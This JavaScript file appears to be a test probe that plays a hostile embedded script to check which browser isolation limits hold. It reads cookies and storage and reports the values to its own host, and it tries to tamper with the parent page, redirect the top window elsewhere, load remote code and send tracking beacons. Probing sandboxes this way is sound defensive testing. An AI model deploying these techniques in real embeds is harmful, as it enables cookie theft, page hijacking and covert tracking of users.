/* A recipient's script that tries everything: what it reaches it reports to its own host, as a real one could. */

const OWN = new URL(document.currentScript.src).origin;
const ELSEWHERE = new URL(document.currentScript.src).searchParams.get("elsewhere");

const report = (name, result) => fetch(`${OWN}/report?${encodeURIComponent(`${name}=${result}`)}`);

async function attempt(name, act) {
  try {
    report(name, `got ${await act()}`);
  } catch (error) {
    report(name, error.name);
  }
}

const loaded = (element) =>
  new Promise((resolve, reject) => {
    element.onload = () => resolve("loaded");
    element.onerror = () => reject(new TypeError("not loaded"));
    document.body.append(element);
  });

const ATTEMPTS = {
  cookie: () => document.cookie,
  "cookie-written": () => (document.cookie = "partner=1"),
  storage: () => localStorage.length,
  page: () => parent.document.title,
  "page-marked": () => (parent.document.documentElement.dataset.agreed = "everything"),
  top: () => top.document.title,
  "top-led-away": () => (top.location.href = `${ELSEWHERE}/led-away`),
  "pop-up": () => window.open(`${OWN}/pop-up`).closed,
  fetch: () => fetch(`${ELSEWHERE}/fetched`),
  site: () => fetch(new URL("/en/privacy/choices/", document.referrer), { mode: "no-cors" }),
  image: () => loaded(Object.assign(new Image(), { src: `${ELSEWHERE}/image.gif` })),
  script: () => loaded(Object.assign(document.createElement("script"), { src: `${ELSEWHERE}/script.js` })),
  style: () =>
    loaded(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${ELSEWHERE}/style.css` })),
  socket: () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${ELSEWHERE.replace("https", "wss")}/socket`);
      socket.onopen = () => resolve("open");
      socket.onerror = () => reject(new TypeError("closed"));
    }),
  eval: () => eval("1 + 1"),
  inline: () =>
    new Promise((resolve, reject) => {
      document.body.append(Object.assign(document.createElement("script"), { textContent: "window.inline = true" }));
      if (window.inline) resolve("run");
      else reject(new TypeError("not run"));
    }),
  call: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:3478" }] }).connectionState,
  later: () => fetchLater(`${OWN}/later`),
};

report("referrer", document.referrer);
report("origin", self.origin);
for (const [name, act] of Object.entries(ATTEMPTS)) attempt(name, act);
navigator.sendBeacon(`${ELSEWHERE}/beacon`);

// As long as it runs it says so; and it would say that it is being closed.
setInterval(() => fetch(`${OWN}/alive`), 100);
for (const [target, name] of [
  [window, "pagehide"],
  [window, "beforeunload"],
  [window, "unload"],
  [document, "visibilitychange"],
  [document, "freeze"],
]) {
  target.addEventListener(name, () => navigator.sendBeacon(`${OWN}/left?${name}`));
}
